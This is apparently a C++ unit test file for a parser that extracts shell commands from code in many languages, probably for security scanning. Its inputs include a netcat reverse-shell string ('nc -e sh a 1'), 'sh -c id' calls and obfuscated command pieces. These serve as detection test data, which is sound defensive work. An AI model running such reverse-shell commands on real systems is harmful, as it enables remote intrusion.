#include <gtest/gtest.h>

#include "format/code_commands.h"
#include "format/shell.h"

namespace lazaret::format {
namespace {

std::vector<std::string> texts(std::string_view code) {
  std::vector<std::string> result;
  for (const CodeCommand& command : code_commands(code, [](std::string_view name) { return name == "P" ? std::optional<std::string>("id") : std::nullopt; })) result.push_back(command.text);
  return result;
}
using List = std::vector<std::string>;

TEST(CodeCommands, CallsOfEachLanguage) {
  EXPECT_EQ(texts("import os; os.system('sh -c id')"), List{"sh -c id"});
  EXPECT_EQ(texts("subprocess.run([\"sh\", \"-c\", \"id | cat\"], check=True)"), List{"'sh' -c 'id | cat'"});
  EXPECT_EQ(texts("require('child_process').exec('nc -e sh a 1', (e, o) => log('x'))"), List{"nc -e sh a 1"});
  EXPECT_EQ(texts("cp.spawn('sh', ['-c', 'id'])"), List{"'sh' -c id"});
  EXPECT_EQ(texts("system \"id; ls\";"), List{"id; ls"});
  EXPECT_EQ(texts("<?php echo shell_exec(\"id\\x3b ls\"); ?>"), List{"id; ls"});
  EXPECT_EQ(texts("puts `ls -la`; qx{whoami -x}"), (List{"ls -la", "whoami -x"}));
  EXPECT_EQ(texts("execl(\"/bin/sh\", \"sh\", \"-c\", \"id\", NULL);"), List{"/bin/sh -c id"});
  EXPECT_EQ(texts("BEGIN { system(\"nc -e sh a 1\") }"), List{"nc -e sh a 1"});
  EXPECT_EQ(texts("os.execute('id')"), List{"id"});
}

TEST(CodeCommands, TextInPieces) {
  EXPECT_EQ(texts("os.system('ba' + \"sh \" 'x')"), List{"bash x"});
  EXPECT_EQ(texts("system('ba' . 'sh x');"), List{"bash x"});
  EXPECT_EQ(texts("os.system(b'''id\nls''')"), List{"id\nls"});
}

TEST(CodeCommands, VariablesOfTheEnvironment) {
  for (const char* code : {"os.system(os.environ['P'])", "os.system(os.getenv(\"P\"))", "exec(process.env.P)", "system($ENV{P})", "system(getenv('P'));", "system(ENV[\"P\"])", "os.system(os.environ.get('P'))"}) {
    EXPECT_EQ(texts(code), List{"id"}) << code;
    EXPECT_TRUE(texts("os.system(os.environ['Q'])").empty());
  }
  EXPECT_EQ(code_commands("os.system('x ' + os.environ['P'])", [](std::string_view) { return std::optional<std::string>("id"); })[0].variables, List{"P"});
}

TEST(CodeCommands, OtherCodeGivesNothing) {
  for (const char* code : {"print('os.system')", "run(f)", "systemd('x y')", "x = 'call(\"'", "call(", "call('", "exec(\"\\", "`", "qx{"}) EXPECT_TRUE(texts(code).empty()) << code;
}

TEST(CodeCommands, StopsAtItsLimits) {
  std::string code;
  for (int i = 0; i < 10'000; ++i) code += "system('a b');";
  EXPECT_EQ(code_commands(code).size(), 64u);
  for (const char* piece : {"system(", "'", "`", "exec(\"a\"+", "qx{", "call(['a',"}) {
    std::string hostile;
    while (hostile.size() < 200'000) hostile += piece;
    code_commands(hostile);
  }
}

}  // namespace
}  // namespace lazaret::format
